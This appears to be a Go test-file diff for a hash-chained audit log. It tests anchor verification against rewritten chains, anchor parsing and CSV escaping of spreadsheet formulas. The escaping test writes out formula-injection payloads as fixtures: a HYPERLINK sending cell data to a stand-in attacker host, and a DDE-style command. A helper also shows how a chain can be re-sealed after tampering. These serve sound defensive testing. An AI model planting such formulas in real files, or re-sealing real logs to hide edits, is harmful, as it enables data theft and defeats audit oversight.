@@ -4,6 +4,7 @@ import (
 	"errors"
 	"fmt"
 	"maps"
+	"slices"
 	"strings"
 	"testing"
 
@@ -236,6 +237,8 @@ func TestReaderRefusesWhatWriterDoesNotWrite(t *testing.T) {
 		{audit.CSV, "id,seq\n1-0,1\n"},
 		{audit.CSV, ""},
 		{audit.CSV, "id,time,seq,event,thread,call,tool,decision,outcome,by,args_hash,reason,other,prev,hash\n1-0,,1,,,,,,,U1,,,\"{\"\"by\"\":\"\"U2\"\"}\",,\n"},
+		{audit.CSV, "id,time,seq,event,thread,call,tool,decision,outcome,by,args_hash,reason,other,prev,hash\n1-0,,1,,,,,,,'U1,,,,,\n"},
+		{audit.CSV, "id,time,seq,event,thread,call,tool,decision,outcome,by,args_hash,reason,other,prev,hash\n1-0,,1,,,,,,,',,,,,\n"},
 	}
 	for _, tt := range tests {
 		r := audit.NewReader(strings.NewReader(tt.in), tt.format)
@@ -246,5 +249,127 @@ func TestReaderRefusesWhatWriterDoesNotWrite(t *testing.T) {
 		if !errors.Is(err, audit.ErrMalformed) {
 			t.Errorf("Read(%s %q) = %v; want ErrMalformed", tt.format, tt.in, err)
 		}
+	}
+}
+
+// rechain rewrites entries from index i on as someone with write access
+// to the store would: each sealed again after the one before it, so that
+// the chain verifies on its own.
+func rechain(t *testing.T, entries []audit.Entry, i int) []audit.Entry {
+	t.Helper()
+	out := make([]audit.Entry, len(entries))
+	for j, e := range entries {
+		out[j] = audit.Entry{ID: e.ID, Fields: maps.Clone(e.Fields)}
+	}
+	head := audit.Head{}
+	if i > 0 {
+		seq, _ := out[i-1].Seq()
+		head = audit.Head{Seq: seq, Hash: out[i-1].Fields["hash"]}
+	}
+	for j := i; j < len(out); j++ {
+		fields := maps.Clone(out[j].Fields)
+		for _, k := range []string{"seq", "prev", "hash"} {
+			delete(fields, k)
+		}
+		sealed, next, err := audit.Seal(fields, head)
+		if err != nil {
+			t.Fatal(err)
+		}
+		out[j].Fields, head = sealed, next
+	}
+	return out
+}
+
+// A chain rewritten from some entry on verifies on its own, but not
+// against an anchor at or after that entry; an anchor the chain does not
+// reach, or that is older than its oldest entry, is not held either.
+func TestVerifyAgainstAnAnchor(t *testing.T) {
+	entries, head := chain(t, 0, 5)
+	original, _ := head.Anchor()
+	anchor := func(i int) audit.Anchor {
+		return audit.Anchor{Seq: int64(i + 1), Hash: entries[i].Fields["hash"]}
+	}
+	rewritten := slices.Clone(entries)
+	rewritten[2] = audit.Entry{ID: entries[2].ID, Fields: maps.Clone(entries[2].Fields)}
+	rewritten[2].Fields["reason"] = "nobody approved this"
+	rewritten = rechain(t, rewritten, 2)
+	newHead := audit.Head{Seq: 5, Hash: rewritten[4].Fields["hash"]}
+	if _, err := verify(rewritten, &newHead); err != nil {
+		t.Fatalf("verify of the rewritten chain without an anchor = %v; want it to pass (that is the hole)", err)
+	}
+
+	tests := []struct {
+		name    string
+		entries []audit.Entry
+		head    *audit.Head
+		anchors []audit.Anchor
+		want    string // "" to pass
+	}{
+		{"intact, its own head", entries, &head, []audit.Anchor{original}, ""},
+		{"intact export, an older anchor", entries, nil, []audit.Anchor{anchor(1), original}, ""},
+		{"rewritten, the original head", rewritten, &newHead, []audit.Anchor{original}, "its entry 5 (" + entries[4].ID + ") has the hash " + rewritten[4].Fields["hash"]},
+		{"rewritten export, the original head", rewritten, nil, []audit.Anchor{original}, "the chain was rewritten at or before that entry"},
+		{"rewritten export, the rewritten entry", rewritten, nil, []audit.Anchor{anchor(2)}, "its entry 3"},
+		{"rewritten export, an entry before the rewrite", rewritten, nil, []audit.Anchor{anchor(1)}, ""},
+		{"export that ends before the anchor", entries[:3], nil, []audit.Anchor{original}, "the trail ends at entry 3, before it"},
+		{"export that starts after the anchor", entries[2:], nil, []audit.Anchor{anchor(0)}, "the trail starts at entry 3, after it"},
+		{"anchor trimmed by retention", entries[2:], &audit.Head{Seq: 5, Hash: head.Hash, Trimmed: 2}, []audit.Anchor{anchor(0)}, "retention removed entries up to 2"},
+		{"no entries", nil, nil, []audit.Anchor{original}, "no hash-chained entry"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			v := audit.Verifier{Anchors: tt.anchors}
+			for _, e := range tt.entries {
+				if err := v.Add(e); err != nil {
+					t.Fatalf("Add(%s) = %v", e.ID, err)
+				}
+			}
+			_, err := v.Finish(tt.head)
+			var ae *audit.AnchorError
+			switch {
+			case tt.want == "" && err != nil:
+				t.Errorf("Finish = %v; want the anchors held", err)
+			case tt.want != "" && (!errors.As(err, &ae) || !strings.Contains(ae.Error(), tt.want)):
+				t.Errorf("Finish = %v; want an AnchorError saying %q", err, tt.want)
+			}
+		})
+	}
+}
+
+func TestParseAnchor(t *testing.T) {
+	hash := strings.Repeat("9c1f", 16)
+	if a, err := audit.ParseAnchor(" 1799:" + strings.ToUpper(hash) + "\n"); err != nil || a != (audit.Anchor{Seq: 1799, Hash: hash}) || a.String() != "1799:"+hash {
+		t.Errorf("ParseAnchor = %+v, %v; want seq 1799 and the hash in lower case", a, err)
+	}
+	for _, s := range []string{"", "1799", "1799:", ":" + hash, "0:" + hash, "-1:" + hash, "x:" + hash, "1799:" + hash[:63], "1799:" + hash + "0", "1799:" + hash[:63] + "g"} {
+		if _, err := audit.ParseAnchor(s); !errors.Is(err, audit.ErrBadAnchor) {
+			t.Errorf("ParseAnchor(%q) = %v; want ErrBadAnchor", s, err)
+		}
+	}
+}
+
+// A reason a person typed, or any field, that a spreadsheet would take
+// for a formula is written as text: quoted, after a single quote; it
+// reads back as it was, and the entry still verifies.
+func TestCSVCellsAreNotFormulas(t *testing.T) {
+	entries, _ := chain(t, 0, 2)
+	const formula = `=HYPERLINK("https://evil.example/?d="&B2&C2,"Click for details")`
+	entries[0].Fields["reason"] = formula
+	entries[0].Fields["by"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+	entries[0].Fields["note"] = "-2+3" // a field in other, as JSON
+	entries[0].Fields["tool"] = "'quoted"
+	entries[0].Fields["thread"] = "\tT1;=1+1"
+	entries = rechain(t, entries, 0)
+	out := writeAll(t, entries, audit.CSV)
+	if !strings.Contains(out, `"'=HYPERLINK(""https://evil.example/?d=""&B2&C2,""Click for details"")"`) {
+		t.Errorf("CSV export:\n%s\nwant the formula after a single quote, in a quoted cell", out)
+	}
+	noFormulas(t, out)
+	got := readAll(t, out, audit.CSV)
+	if !sameEntries(got, entries) {
+		t.Errorf("read back %+v, want %+v", got, entries)
+	}
+	if _, err := verify(got, nil); err != nil {
+		t.Errorf("verify of the CSV export = %v", err)
 	}
 }
